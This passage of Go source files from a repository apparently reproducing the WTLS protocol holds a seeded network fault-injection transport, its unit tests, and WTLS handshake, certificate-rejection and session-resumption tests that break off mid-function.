	n := int(t.rcvHdr[0])<<8 | int(t.rcvHdr[1])
	if n > len(p) {
		// Drain the frame to keep the stream in sync, then report.
		if _, err := io.CopyN(io.Discard, t.lower, int64(n)); err != nil {
			return 0, err
		}
		return 0, fmt.Errorf("%w: frame %d, buffer %d", ErrShortBuffer, n, len(p))
	}
	if _, err := io.ReadFull(t.lower, p[:n]); err != nil {
		return 0, err
	}
	return n, nil
}

// Close flushes any held (reordered) frame and closes the transport.
func (t *FaultyTransport) Close() error {
	t.wmu.Lock()
	if t.held != nil {
		held := t.held
		t.held = nil
		_ = t.emit(held)
	}
	t.wmu.Unlock()
	return t.lower.Close()
}

// Stats returns a snapshot of the fault counters.
func (t *FaultyTransport) Stats() Stats {
	t.wmu.Lock()
	defer t.wmu.Unlock()
	return t.stats
}
