package chaos

import (
	"bytes"
	"net"
	"sync"
	"testing"
	"time"
)

// connPair returns two ends of an in-process socket pair. net.Pipe is
// synchronous, which is fine here: every test write has a concurrent
// reader draining the peer.
func connPair() (net.Conn, net.Conn) { return net.Pipe() }

// drain collects everything readable from c until it is closed.
func drain(c net.Conn, wg *sync.WaitGroup, out *bytes.Buffer, mu *sync.Mutex) {
	defer wg.Done()
	buf := make([]byte, 4096)
	for {
		n, err := c.Read(buf)
		if n > 0 {
			mu.Lock()
			out.Write(buf[:n])
			mu.Unlock()
		}
		if err != nil {
			return
		}
	}
}

func TestWrapConnValidates(t *testing.T) {
	a, b := connPair()
	defer a.Close()
	defer b.Close()
	if _, err := WrapConn(nil, ConnConfig{}); err == nil {
		t.Fatal("nil conn accepted")
	}
	if _, err := WrapConn(a, ConnConfig{Drop: 1.5}); err == nil {
		t.Fatal("Drop 1.5 accepted")
	}
	if _, err := WrapConn(a, ConnConfig{Stall: -time.Second}); err == nil {
		t.Fatal("negative Stall accepted")
	}
	if _, err := WrapConn(a, ConnConfig{Burst: &Burst{LossBad: 2}}); err == nil {
		t.Fatal("burst LossBad 2 accepted")
	}
}

func TestCleanPassthrough(t *testing.T) {
	a, b := connPair()
	defer b.Close()
	fc, err := WrapConn(a, ConnConfig{})
	if err != nil {
		t.Fatal(err)
	}
	var got bytes.Buffer
	var mu sync.Mutex
	var wg sync.WaitGroup
	wg.Add(1)
	go drain(b, &wg, &got, &mu)
	want := []byte("sixteen crisp bytes and then some")
	if _, err := fc.Write(want); err != nil {
		t.Fatal(err)
	}
	fc.Close()
	wg.Wait()
	if !bytes.Equal(got.Bytes(), want) {
		t.Fatalf("clean channel mangled data: got %q want %q", got.Bytes(), want)
	}
	st := fc.Stats()
	if st.Chunks != 1 || st.Dropped+st.Corrupted+st.Stalled != 0 {
		t.Fatalf("clean channel stats: %+v", st)
	}
}

func TestDropIsSilentAndCounted(t *testing.T) {
	a, b := connPair()
	defer b.Close()
	fc, err := WrapConn(a, ConnConfig{Seed: 42, Drop: 0.5})
	if err != nil {
		t.Fatal(err)
	}
	var got bytes.Buffer
	var mu sync.Mutex
	var wg sync.WaitGroup
	wg.Add(1)
	go drain(b, &wg, &got, &mu)
	chunk := bytes.Repeat([]byte{0xAB}, 64)
	const chunks = 200
	for i := 0; i < chunks; i++ {
		n, err := fc.Write(chunk)
		if err != nil || n != len(chunk) {
			t.Fatalf("write %d: n=%d err=%v (drops must be silent)", i, n, err)
		}
	}
	fc.Close()
	wg.Wait()
	st := fc.Stats()
	if st.Dropped == 0 || st.Dropped == chunks {
		t.Fatalf("Drop 0.5 over %d chunks dropped %d", chunks, st.Dropped)
	}
	if got.Len() != (chunks-st.Dropped)*len(chunk) {
		t.Fatalf("delivered %d bytes, want %d", got.Len(), (chunks-st.Dropped)*len(chunk))
	}
}

func TestCorruptFlipsExactlyOneBit(t *testing.T) {
	a, b := connPair()
	defer b.Close()
	fc, err := WrapConn(a, ConnConfig{Seed: 7, Corrupt: 1})
	if err != nil {
		t.Fatal(err)
	}
	var got bytes.Buffer
	var mu sync.Mutex
	var wg sync.WaitGroup
	wg.Add(1)
	go drain(b, &wg, &got, &mu)
	want := bytes.Repeat([]byte{0x00}, 128)
	if _, err := fc.Write(want); err != nil {
		t.Fatal(err)
	}
	fc.Close()
	wg.Wait()
	diff := 0
	for _, x := range got.Bytes() {
		for ; x != 0; x &= x - 1 {
			diff++
		}
	}
	if diff != 1 {
		t.Fatalf("Corrupt=1 flipped %d bits, want exactly 1", diff)
	}
	if st := fc.Stats(); st.Corrupted != 1 {
		t.Fatalf("stats: %+v", st)
	}
}

func TestConnDeterministicSchedule(t *testing.T) {
	run := func() ConnStats {
		a, b := connPair()
		defer b.Close()
		fc, err := WrapConn(a, ConnConfig{Seed: 99, Drop: 0.3, Corrupt: 0.3,
			Burst: &Burst{PGoodToBad: 0.2, PBadToGood: 0.5, LossBad: 0.9}})
		if err != nil {
			t.Fatal(err)
		}
		var got bytes.Buffer
		var mu sync.Mutex
		var wg sync.WaitGroup
		wg.Add(1)
		go drain(b, &wg, &got, &mu)
		for i := 0; i < 100; i++ {
			if _, err := fc.Write([]byte("chunk")); err != nil {
				t.Fatal(err)
			}
		}
		fc.Close()
		wg.Wait()
		return fc.Stats()
	}
	s1, s2 := run(), run()
	if s1 != s2 {
		t.Fatalf("same seed, different schedules: %+v vs %+v", s1, s2)
	}
	if s1.BadState == 0 || s1.Dropped == 0 {
		t.Fatalf("burst model never engaged: %+v", s1)
	}
}

func TestStallDelaysWrite(t *testing.T) {
	a, b := connPair()
	defer b.Close()
	fc, err := WrapConn(a, ConnConfig{Seed: 1, StallProb: 1, Stall: 50 * time.Millisecond})
	if err != nil {
		t.Fatal(err)
	}
	var got bytes.Buffer
	var mu sync.Mutex
	var wg sync.WaitGroup
	wg.Add(1)
	go drain(b, &wg, &got, &mu)
	start := time.Now()
	if _, err := fc.Write([]byte("slow")); err != nil {
		t.Fatal(err)
	}
	if d := time.Since(start); d < 40*time.Millisecond {
		t.Fatalf("stalled write returned in %v, want ≥ ~50ms", d)
	}
	fc.Close()
	wg.Wait()
	if st := fc.Stats(); st.Stalled != 1 {
		t.Fatalf("stats: %+v", st)
	}
}

func TestDeadlinesPassThrough(t *testing.T) {
	a, b := connPair()
	defer b.Close()
	fc, err := WrapConn(a, ConnConfig{})
	if err != nil {
		t.Fatal(err)
	}
	defer fc.Close()
	if err := fc.SetReadDeadline(time.Now().Add(20 * time.Millisecond)); err != nil {
		t.Fatal(err)
	}
	buf := make([]byte, 8)
	_, err = fc.Read(buf)
	ne, ok := err.(net.Error)
	if !ok || !ne.Timeout() {
		t.Fatalf("Read after deadline = %v, want net.Error timeout", err)
	}
}
