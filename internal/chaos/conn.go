package chaos

import (
	"errors"
	"math/rand"
	"net"
	"sync"
	"time"

	"repro/internal/obs"
)

// Socket-level fault metric handles, process totals across all wrapped
// connections; disarmed by default like every other chaos counter.
var (
	mConnChunks    = obs.C("chaos.conn_chunks")
	mConnDropped   = obs.C("chaos.conn_dropped")
	mConnCorrupted = obs.C("chaos.conn_corrupted")
	mConnStalls    = obs.C("chaos.conn_stalls")
	mConnBadState  = obs.C("chaos.conn_bad_state")
)

// ConnConfig parameterizes socket-level fault injection. All
// probabilities are per Write call ("chunk"): a TCP stream has no frame
// boundaries, so the chunk — what one protocol layer hands the socket
// at once — is the natural fault unit. The zero value is a clean
// passthrough.
//
// The failure modes map onto what real mobile links do to a TCP
// connection: Corrupt flips bits in flight (the record MAC catches it
// and the session dies with an alert), Drop silently discards a chunk
// (the byte stream desynchronizes and the peer stalls until its
// deadline fires — the half-dead connection of a handset crossing a
// coverage boundary), and Stall injects latency spikes. A Gilbert–
// Elliott Burst makes all three cluster the way fading channels do.
type ConnConfig struct {
	// Seed drives the fault PRNG; a fixed seed gives a reproducible
	// fault schedule for a given chunk sequence.
	Seed int64
	// Corrupt is the per-chunk probability of flipping one random bit.
	Corrupt float64
	// Drop is the per-chunk probability of silently discarding the
	// chunk while reporting success — the peer must save itself with a
	// deadline.
	Drop float64
	// StallProb is the per-chunk probability of sleeping Stall before
	// the write proceeds.
	StallProb float64
	// Stall is the injected delay for stalled chunks.
	Stall time.Duration
	// Burst optionally clusters faults: in the bad state the drop
	// probability becomes max(Drop, LossBad) and corruption doubles.
	Burst *Burst
}

func (c *ConnConfig) validate() error {
	for _, p := range []struct {
		name string
		v    float64
	}{
		{"Corrupt", c.Corrupt}, {"Drop", c.Drop}, {"StallProb", c.StallProb},
	} {
		if p.v < 0 || p.v > 1 {
			return errors.New("chaos: conn " + p.name + " outside [0,1]")
		}
	}
	if c.Stall < 0 {
		return errors.New("chaos: negative Stall")
	}
	if b := c.Burst; b != nil {
		for _, p := range []struct {
			name string
			v    float64
		}{
			{"PGoodToBad", b.PGoodToBad}, {"PBadToGood", b.PBadToGood},
			{"LossGood", b.LossGood}, {"LossBad", b.LossBad},
		} {
			if p.v < 0 || p.v > 1 {
				return errors.New("chaos: conn burst " + p.name + " outside [0,1]")
			}
		}
	}
	return nil
}

// ConnStats counts faults injected into one wrapped connection.
type ConnStats struct {
	Chunks    int // Write calls offered
	Dropped   int
	Corrupted int
	Stalled   int
	BadState  int // chunks offered while the channel was in the bad state
}

// Conn wraps a real net.Conn and subjects its writes to the configured
// faults, so socket-backed protocol stacks can be soaked against
// OS-level failure modes. Reads, deadlines and addresses pass through
// untouched (wrap both ends to impair both directions). It is safe for
// concurrent use to the extent the underlying connection is.
type Conn struct {
	net.Conn
	cfg ConnConfig

	mu    sync.Mutex // guards rng, bad, stats
	rng   *rand.Rand
	bad   bool // Gilbert–Elliott state
	stats ConnStats
}

// WrapConn wraps c with seeded socket-level fault injection.
func WrapConn(c net.Conn, cfg ConnConfig) (*Conn, error) {
	if c == nil {
		return nil, errors.New("chaos: nil conn")
	}
	if err := cfg.validate(); err != nil {
		return nil, err
	}
	return &Conn{Conn: c, cfg: cfg, rng: rand.New(rand.NewSource(cfg.Seed))}, nil
}

// Write applies the fault schedule to one chunk and forwards the
// survivors. Dropped chunks report full success — loss is silent,
// exactly as on air; the peer discovers it by deadline.
func (c *Conn) Write(p []byte) (int, error) {
	c.mu.Lock()
	c.stats.Chunks++
	mConnChunks.Inc()

	drop, corrupt := c.cfg.Drop, c.cfg.Corrupt
	if b := c.cfg.Burst; b != nil {
		if c.bad {
			if c.rng.Float64() < b.PBadToGood {
				c.bad = false
			}
		} else if c.rng.Float64() < b.PGoodToBad {
			c.bad = true
		}
		if c.bad {
			c.stats.BadState++
			mConnBadState.Inc()
			if b.LossBad > drop {
				drop = b.LossBad
			}
			corrupt *= 2
			if corrupt > 1 {
				corrupt = 1
			}
		} else if b.LossGood > drop {
			drop = b.LossGood
		}
	}

	stall := c.cfg.Stall > 0 && c.rng.Float64() < c.cfg.StallProb
	if c.rng.Float64() < drop {
		c.stats.Dropped++
		mConnDropped.Inc()
		c.mu.Unlock()
		return len(p), nil
	}
	var out []byte
	if len(p) > 0 && c.rng.Float64() < corrupt {
		out = append([]byte(nil), p...)
		out[c.rng.Intn(len(out))] ^= 1 << c.rng.Intn(8)
		c.stats.Corrupted++
		mConnCorrupted.Inc()
	}
	if stall {
		c.stats.Stalled++
		mConnStalls.Inc()
	}
	c.mu.Unlock()

	// Sleep and write outside the lock so a stalled writer does not
	// block the fault accounting of a concurrent one.
	if stall {
		time.Sleep(c.cfg.Stall)
	}
	if out != nil {
		n, err := c.Conn.Write(out)
		if n > len(p) {
			n = len(p)
		}
		return n, err
	}
	return c.Conn.Write(p)
}

// Stats returns a snapshot of the fault counters.
func (c *Conn) Stats() ConnStats {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.stats
}
