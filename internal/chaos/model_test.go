package chaos

import (
	"math"
	"testing"
)

// TestBurstStep: the pure Gilbert–Elliott transition shared with the
// fleet simulator — exact threshold semantics on the uniform draw.
func TestBurstStep(t *testing.T) {
	b := &Burst{PGoodToBad: 0.3, PBadToGood: 0.4}
	cases := []struct {
		bad  bool
		u    float64
		want bool
	}{
		{false, 0.0, true}, // u < PGoodToBad: good degrades
		{false, 0.29999, true},
		{false, 0.3, false}, // at the threshold: stays good
		{false, 0.9, false},
		{true, 0.0, false}, // u < PBadToGood: bad recovers
		{true, 0.39999, false},
		{true, 0.4, true}, // at the threshold: stays bad
		{true, 0.9, true},
	}
	for _, tc := range cases {
		if got := b.Step(tc.bad, tc.u); got != tc.want {
			t.Errorf("Step(bad=%t, u=%v) = %t, want %t", tc.bad, tc.u, got, tc.want)
		}
	}
	// Degenerate machines: an always-recovering and a never-degrading
	// channel.
	sticky := &Burst{PGoodToBad: 0, PBadToGood: 1}
	if sticky.Step(false, 0.0) || sticky.Step(true, 0.999) {
		t.Error("PGoodToBad=0/PBadToGood=1 must always land in the good state")
	}
}

// TestLossProb: independent drop composes with the state-dependent burst
// loss as 1-(1-p)(1-q), never by addition.
func TestLossProb(t *testing.T) {
	c := &Config{Drop: 0.1}
	if got := c.LossProb(true); got != 0.1 {
		t.Errorf("no burst: LossProb = %v, want Drop", got)
	}
	c.Burst = &Burst{LossGood: 0.2, LossBad: 0.5}
	if got, want := c.LossProb(false), 1-0.9*0.8; math.Abs(got-want) > 1e-15 {
		t.Errorf("good state: LossProb = %v, want %v", got, want)
	}
	if got, want := c.LossProb(true), 1-0.9*0.5; math.Abs(got-want) > 1e-15 {
		t.Errorf("bad state: LossProb = %v, want %v", got, want)
	}
	var zero Config
	if zero.LossProb(false) != 0 || zero.LossProb(true) != 0 {
		t.Error("zero config must be lossless")
	}
}

// TestFrameCorruptProb: analytic 1-(1-BER)^(8n), with sane edges.
func TestFrameCorruptProb(t *testing.T) {
	c := &Config{BER: 1e-4}
	got := c.FrameCorruptProb(128)
	want := 1 - math.Pow(1-1e-4, 8*128)
	if math.Abs(got-want) > 1e-12 {
		t.Errorf("FrameCorruptProb(128) = %v, want %v", got, want)
	}
	if c.FrameCorruptProb(0) != 0 {
		t.Error("zero-length frame cannot corrupt")
	}
	if (&Config{}).FrameCorruptProb(128) != 0 {
		t.Error("BER 0 cannot corrupt")
	}
	if p := (&Config{BER: 1}).FrameCorruptProb(1); p != 1 {
		t.Errorf("BER 1 must corrupt every frame, got %v", p)
	}
	// Monotone in frame size.
	if c.FrameCorruptProb(256) <= c.FrameCorruptProb(128) {
		t.Error("corruption probability must grow with frame size")
	}
}

// TestTransportMatchesModel: the FaultyTransport's empirical loss rate
// converges on the analytic LossProb composition it shares with the
// fleet channel model.
func TestTransportMatchesModel(t *testing.T) {
	cfg := Config{
		Seed: 7,
		Drop: 0.05,
		Burst: &Burst{
			PGoodToBad: 0.5, PBadToGood: 0.5, // 50/50 stationary state mix
			LossGood: 0.02, LossBad: 0.3,
		},
	}
	ft, err := New(nopRW{}, cfg)
	if err != nil {
		t.Fatal(err)
	}
	const frames = 200_000
	buf := make([]byte, 32)
	for i := 0; i < frames; i++ {
		if _, err := ft.Write(buf); err != nil {
			t.Fatal(err)
		}
	}
	st := ft.Stats()
	// Expected loss: average LossProb over the stationary state mix.
	pi := cfg.Burst.PGoodToBad / (cfg.Burst.PGoodToBad + cfg.Burst.PBadToGood)
	want := (1-pi)*cfg.LossProb(false) + pi*cfg.LossProb(true)
	got := float64(st.Dropped) / frames
	if math.Abs(got-want) > 0.01 {
		t.Errorf("empirical loss %v, analytic %v", got, want)
	}
}

// nopRW is a sink transport for loss-statistics tests.
type nopRW struct{}

func (nopRW) Read(p []byte) (int, error)  { return 0, nil }
func (nopRW) Write(p []byte) (int, error) { return len(p), nil }
func (nopRW) Close() error                { return nil }
