package chaos

import (
	"bytes"
	"errors"
	"fmt"
	"io"
	"testing"

	"repro/internal/stack"
)

// link builds a unidirectional lossy channel: frames written to tx come
// out of rx.
func link(t *testing.T, cfg Config) (tx, rx *FaultyTransport) {
	t.Helper()
	a, b := stack.Pipe()
	tx, err := New(a, cfg)
	if err != nil {
		t.Fatal(err)
	}
	rx, err = New(b, Config{})
	if err != nil {
		t.Fatal(err)
	}
	return tx, rx
}

func TestPerfectChannelRoundtrip(t *testing.T) {
	tx, rx := link(t, Config{})
	frames := [][]byte{[]byte("alpha"), []byte("beta"), {0}, bytes.Repeat([]byte{7}, 300)}
	for _, f := range frames {
		if _, err := tx.Write(f); err != nil {
			t.Fatal(err)
		}
	}
	buf := make([]byte, 512)
	for i, want := range frames {
		n, err := rx.Read(buf)
		if err != nil {
			t.Fatal(err)
		}
		if !bytes.Equal(buf[:n], want) {
			t.Fatalf("frame %d: got %q want %q", i, buf[:n], want)
		}
	}
	st := tx.Stats()
	if st.Frames != 4 || st.Delivered != 4 || st.Dropped+st.Corrupted+st.Duplicated+st.Reordered != 0 {
		t.Fatalf("perfect channel stats: %+v", st)
	}
}

func TestDropRateApproximatesConfig(t *testing.T) {
	tx, rx := link(t, Config{Seed: 1, Drop: 0.3})
	const n = 2000
	for i := 0; i < n; i++ {
		if _, err := tx.Write([]byte{byte(i)}); err != nil {
			t.Fatal(err)
		}
	}
	st := tx.Stats()
	if st.Dropped < n*20/100 || st.Dropped > n*40/100 {
		t.Fatalf("drop rate off: %d/%d", st.Dropped, n)
	}
	// The survivors arrive intact and in order.
	buf := make([]byte, 8)
	for i := 0; i < st.Delivered; i++ {
		if _, err := rx.Read(buf); err != nil {
			t.Fatal(err)
		}
	}
}

func TestBERFlipsBits(t *testing.T) {
	tx, rx := link(t, Config{Seed: 2, BER: 1e-3})
	payload := bytes.Repeat([]byte{0xAA}, 256) // 2048 bits/frame
	const n = 200
	for i := 0; i < n; i++ {
		if _, err := tx.Write(payload); err != nil {
			t.Fatal(err)
		}
	}
	st := tx.Stats()
	if st.Corrupted == 0 || st.BitsFlipped == 0 {
		t.Fatalf("BER 1e-3 over %d bits flipped nothing: %+v", n*len(payload)*8, st)
	}
	corrupt := 0
	buf := make([]byte, 512)
	for i := 0; i < n; i++ {
		m, err := rx.Read(buf)
		if err != nil {
			t.Fatal(err)
		}
		if !bytes.Equal(buf[:m], payload) {
			corrupt++
		}
	}
	if corrupt != st.Corrupted {
		t.Fatalf("observed %d corrupt frames, stats say %d", corrupt, st.Corrupted)
	}
}

func TestDeterministicSchedule(t *testing.T) {
	run := func() (Stats, []byte) {
		tx, rx := link(t, Config{Seed: 42, Drop: 0.1, BER: 1e-4, Dup: 0.05, Reorder: 0.05})
		for i := 0; i < 500; i++ {
			frame := bytes.Repeat([]byte{byte(i)}, 32)
			if _, err := tx.Write(frame); err != nil {
				t.Fatal(err)
			}
		}
		st := tx.Stats()
		var got []byte
		buf := make([]byte, 64)
		for i := 0; i < st.Delivered; i++ {
			m, err := rx.Read(buf)
			if err != nil {
				t.Fatal(err)
			}
			got = append(got, buf[:m]...)
		}
		return st, got
	}
	st1, seq1 := run()
	st2, seq2 := run()
	if st1 != st2 {
		t.Fatalf("stats differ across identical runs:\n%+v\n%+v", st1, st2)
	}
	if !bytes.Equal(seq1, seq2) {
		t.Fatal("delivered byte sequences differ across identical runs")
	}
	if st1.Dropped == 0 || st1.Duplicated == 0 || st1.Reordered == 0 {
		t.Fatalf("schedule never exercised some fault: %+v", st1)
	}
}

func TestReorderSwapsAdjacentFrames(t *testing.T) {
	// Reorder=1 with Dup=Drop=0: frame 0 is held, frame 1 goes first,
	// then frame 0 (emitting a held frame clears the hold).
	tx, rx := link(t, Config{Seed: 3, Reorder: 1})
	for _, f := range []string{"first", "second", "third", "fourth"} {
		if _, err := tx.Write([]byte(f)); err != nil {
			t.Fatal(err)
		}
	}
	var got []string
	buf := make([]byte, 16)
	for i := 0; i < tx.Stats().Delivered; i++ {
		n, err := rx.Read(buf)
		if err != nil {
			t.Fatal(err)
		}
		got = append(got, string(buf[:n]))
	}
	want := []string{"second", "first", "fourth", "third"}
	if fmt.Sprint(got) != fmt.Sprint(want) {
		t.Fatalf("got %v want %v", got, want)
	}
}

func TestBurstLossesCluster(t *testing.T) {
	cfg := Config{Seed: 4, Burst: &Burst{PGoodToBad: 0.02, PBadToGood: 0.25, LossGood: 0, LossBad: 0.9}}
	tx, _ := link(t, cfg)
	const n = 5000
	for i := 0; i < n; i++ {
		if _, err := tx.Write([]byte{1}); err != nil {
			t.Fatal(err)
		}
	}
	st := tx.Stats()
	if st.BadState == 0 || st.Dropped == 0 {
		t.Fatalf("burst model never engaged: %+v", st)
	}
	// Loss is confined to bad-state residency: the overall drop count
	// cannot exceed the bad-state frame count (LossGood is zero).
	if st.Dropped > st.BadState {
		t.Fatalf("dropped %d > bad-state frames %d", st.Dropped, st.BadState)
	}
}

func TestDuplicateDelivery(t *testing.T) {
	tx, rx := link(t, Config{Seed: 5, Dup: 1})
	if _, err := tx.Write([]byte("echo")); err != nil {
		t.Fatal(err)
	}
	buf := make([]byte, 16)
	for i := 0; i < 2; i++ {
		n, err := rx.Read(buf)
		if err != nil {
			t.Fatal(err)
		}
		if string(buf[:n]) != "echo" {
			t.Fatalf("copy %d: got %q", i, buf[:n])
		}
	}
	if tx.Stats().Duplicated != 1 {
		t.Fatalf("stats: %+v", tx.Stats())
	}
}

func TestCloseFlushesHeldFrame(t *testing.T) {
	tx, rx := link(t, Config{Seed: 6, Reorder: 1})
	if _, err := tx.Write([]byte("held")); err != nil {
		t.Fatal(err)
	}
	if err := tx.Close(); err != nil {
		t.Fatal(err)
	}
	buf := make([]byte, 16)
	n, err := rx.Read(buf)
	if err != nil {
		t.Fatal(err)
	}
	if string(buf[:n]) != "held" {
		t.Fatalf("got %q", buf[:n])
	}
}

func TestShortReadBufferKeepsSync(t *testing.T) {
	tx, rx := link(t, Config{})
	if _, err := tx.Write(bytes.Repeat([]byte{1}, 100)); err != nil {
		t.Fatal(err)
	}
	if _, err := tx.Write([]byte("next")); err != nil {
		t.Fatal(err)
	}
	small := make([]byte, 10)
	if _, err := rx.Read(small); !errors.Is(err, ErrShortBuffer) {
		t.Fatalf("want ErrShortBuffer, got %v", err)
	}
	// The stream stays frame-aligned: the next read sees the next frame.
	n, err := rx.Read(small)
	if err != nil {
		t.Fatal(err)
	}
	if string(small[:n]) != "next" {
		t.Fatalf("desynchronized: got %q", small[:n])
	}
}

func TestConfigValidation(t *testing.T) {
	a, _ := stack.Pipe()
	if _, err := New(nil, Config{}); err == nil {
		t.Error("accepted nil transport")
	}
	if _, err := New(a, Config{Drop: 1.5}); err == nil {
		t.Error("accepted Drop > 1")
	}
	if _, err := New(a, Config{BER: -0.1}); err == nil {
		t.Error("accepted negative BER")
	}
	if _, err := New(a, Config{Burst: &Burst{LossBad: 2}}); err == nil {
		t.Error("accepted burst loss > 1")
	}
}

func TestOversizedFrameRejected(t *testing.T) {
	tx, _ := link(t, Config{})
	if _, err := tx.Write(make([]byte, MaxFrame+1)); !errors.Is(err, ErrFrameTooLarge) {
		t.Fatalf("want ErrFrameTooLarge, got %v", err)
	}
}

func TestReadAfterPeerClose(t *testing.T) {
	tx, rx := link(t, Config{})
	if _, err := tx.Write([]byte("bye")); err != nil {
		t.Fatal(err)
	}
	if err := tx.Close(); err != nil {
		t.Fatal(err)
	}
	buf := make([]byte, 8)
	if _, err := rx.Read(buf); err != nil {
		t.Fatal(err)
	}
	if _, err := rx.Read(buf); err != io.EOF {
		t.Fatalf("want EOF, got %v", err)
	}
}
