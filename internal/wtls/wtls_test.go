package wtls

import (
	"bytes"
	"errors"
	"io"
	"testing"

	"repro/internal/crypto/dh"
	"repro/internal/crypto/prng"
	"repro/internal/crypto/rsa"
	"repro/internal/suite"
)

// test PKI, generated once (RSA keygen dominates test time otherwise).
var (
	testCA     *CA
	testKey    *rsa.PrivateKey
	testCert   *Certificate
	testDHMade bool
)

func testPKI(t testing.TB) (*CA, *rsa.PrivateKey, *Certificate) {
	t.Helper()
	if testCA == nil {
		var err error
		testCA, err = NewCA("TestRoot", prng.NewDRBG([]byte("ca-seed")), 512)
		if err != nil {
			t.Fatal(err)
		}
		testKey, err = rsa.GenerateKey(prng.NewDRBG([]byte("server-seed")), 512)
		if err != nil {
			t.Fatal(err)
		}
		testCert, err = testCA.Issue("gateway.example", 1, &testKey.PublicKey)
		if err != nil {
			t.Fatal(err)
		}
	}
	_ = testDHMade
	return testCA, testKey, testCert
}

func serverConfig(t testing.TB) *Config {
	ca, key, cert := testPKI(t)
	_ = ca
	return &Config{
		Rand:        prng.NewDRBG([]byte("server-rand")),
		Certificate: cert,
		PrivateKey:  key,
	}
}

func clientConfig(t testing.TB) *Config {
	ca, _, _ := testPKI(t)
	return &Config{
		Rand:       prng.NewDRBG([]byte("client-rand")),
		RootCA:     &ca.Key.PublicKey,
		ServerName: "gateway.example",
	}
}

// handshakePair runs a client/server handshake over a pipe and returns
// both ends; the server runs in a goroutine whose error lands on srvErr.
func handshakePair(t *testing.T, ccfg, scfg *Config) (*Conn, *Conn, chan error) {
	t.Helper()
	cp, sp := bufferedPipe()
	client := Client(cp, ccfg)
	server := Server(sp, scfg)
	srvErr := make(chan error, 1)
	go func() { srvErr <- server.Handshake() }()
	if err := client.Handshake(); err != nil {
		t.Fatalf("client handshake: %v", err)
	}
	if err := <-srvErr; err != nil {
		t.Fatalf("server handshake: %v", err)
	}
	return client, server, srvErr
}

func TestHandshakeAndEcho(t *testing.T) {
	client, server, _ := handshakePair(t, clientConfig(t), serverConfig(t))
	if !client.State().HandshakeDone || !server.State().HandshakeDone {
		t.Fatal("handshake state not set")
	}
	if client.State().Suite.ID != server.State().Suite.ID {
		t.Fatal("suite mismatch")
	}

	msg := []byte("GET /wallet HTTP/1.0\r\n\r\n")
	done := make(chan error, 1)
	go func() {
		buf := make([]byte, 256)
		n, err := server.Read(buf)
		if err != nil {
			done <- err
			return
		}
		_, err = server.Write(buf[:n])
		done <- err
	}()
	if _, err := client.Write(msg); err != nil {
		t.Fatal(err)
	}
	echo := make([]byte, len(msg))
	if _, err := io.ReadFull(client, echo); err != nil {
		t.Fatal(err)
	}
	if err := <-done; err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(echo, msg) {
		t.Fatalf("echo = %q, want %q", echo, msg)
	}
}

// TestEverySuiteHandshakes runs the full handshake under every registered
// suite — the Section 3.1 flexibility matrix end to end.
func TestEverySuiteHandshakes(t *testing.T) {
	for _, s := range suite.All() {
		s := s
		t.Run(s.Name, func(t *testing.T) {
			scfg := serverConfig(t)
			ccfg := clientConfig(t)
			ccfg.Suites = []uint16{s.ID}
			scfg.Suites = []uint16{s.ID}
			if s.KexName == "DHE" {
				scfg.DHGroup = testDHGroup(t)
			}
			client, server, _ := handshakePair(t, ccfg, scfg)
			if client.State().Suite.ID != s.ID {
				t.Fatalf("negotiated %#04x, want %#04x", client.State().Suite.ID, s.ID)
			}
			roundtrip(t, client, server, []byte("suite "+s.Name))
		})
	}
}

func roundtrip(t *testing.T, client, server *Conn, msg []byte) {
	t.Helper()
	done := make(chan error, 1)
	go func() {
		buf := make([]byte, len(msg))
		if _, err := io.ReadFull(server, buf); err != nil {
			done <- err
			return
		}
		if !bytes.Equal(buf, msg) {
			done <- errors.New("server received wrong plaintext")
			return
		}
		_, err := server.Write(buf)
		done <- err
	}()
	if _, err := client.Write(msg); err != nil {
		t.Fatal(err)
	}
	back := make([]byte, len(msg))
	if _, err := io.ReadFull(client, back); err != nil {
		t.Fatal(err)
	}
	if err := <-done; err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(back, msg) {
		t.Fatal("client received wrong echo")
	}
}

func testDHGroup(t testing.TB) *dh.Group {
	g, err := dh.TestGroup512(prng.NewDRBG([]byte("wtls-dh-group")))
	if err != nil {
		t.Fatal(err)
	}
	return g
}

func TestSuiteNegotiationPreference(t *testing.T) {
	scfg := serverConfig(t)
	ccfg := clientConfig(t)
	ccfg.Suites = []uint16{0x0004, 0x000A} // client prefers RC4_MD5
	client, _, _ := handshakePair(t, ccfg, scfg)
	if got := client.State().Suite.Name; got != "RSA_WITH_RC4_128_MD5" {
		t.Fatalf("negotiated %s", got)
	}
}

func TestNoCommonSuite(t *testing.T) {
	cp, sp := bufferedPipe()
	scfg := serverConfig(t)
	scfg.Suites = []uint16{0x000A}
	ccfg := clientConfig(t)
	ccfg.Suites = []uint16{0x0004}
	client := Client(cp, ccfg)
	server := Server(sp, scfg)
	srvErr := make(chan error, 1)
	go func() { srvErr <- server.Handshake() }()
	cerr := client.Handshake()
	serr := <-srvErr
	if cerr == nil || serr == nil {
		t.Fatalf("handshake should fail on both ends (client %v, server %v)", cerr, serr)
	}
	var alert *AlertError
	if !errors.As(cerr, &alert) || alert.Description != AlertHandshakeFailed {
		t.Fatalf("client should see handshake_failed alert, got %v", cerr)
	}
}

func TestWrongServerNameRejected(t *testing.T) {
	cp, sp := bufferedPipe()
	ccfg := clientConfig(t)
	ccfg.ServerName = "evil.example"
	client := Client(cp, ccfg)
	server := Server(sp, serverConfig(t))
	srvErr := make(chan error, 1)
	go func() { srvErr <- server.Handshake() }()
	if err := client.Handshake(); err == nil {
		t.Fatal("client accepted certificate for wrong subject")
	}
	<-srvErr // server fails too (alert); either way it must return
}

func TestUntrustedCARejected(t *testing.T) {
	cp, sp := bufferedPipe()
	ccfg := clientConfig(t)
	rogue, err := NewCA("Rogue", prng.NewDRBG([]byte("rogue")), 512)
	if err != nil {
		t.Fatal(err)
	}
	ccfg.RootCA = &rogue.Key.PublicKey
	client := Client(cp, ccfg)
	server := Server(sp, serverConfig(t))
	srvErr := make(chan error, 1)
	go func() { srvErr <- server.Handshake() }()
	if err := client.Handshake(); err == nil {
		t.Fatal("client trusted a certificate from the wrong CA")
	}
	<-srvErr
}

func TestSessionResumption(t *testing.T) {
	clientCache := NewSessionCache()
	serverCache := NewSessionCache()

	run := func() (*Conn, *Conn) {
		scfg := serverConfig(t)
		scfg.SessionCache = serverCache
		ccfg := clientConfig(t)
		ccfg.SessionCache = clientCache
		c, s, _ := handshakePair(t, ccfg, scfg)
		return c, s
	}

	c1, _ := run()
	if c1.State().Resumed {
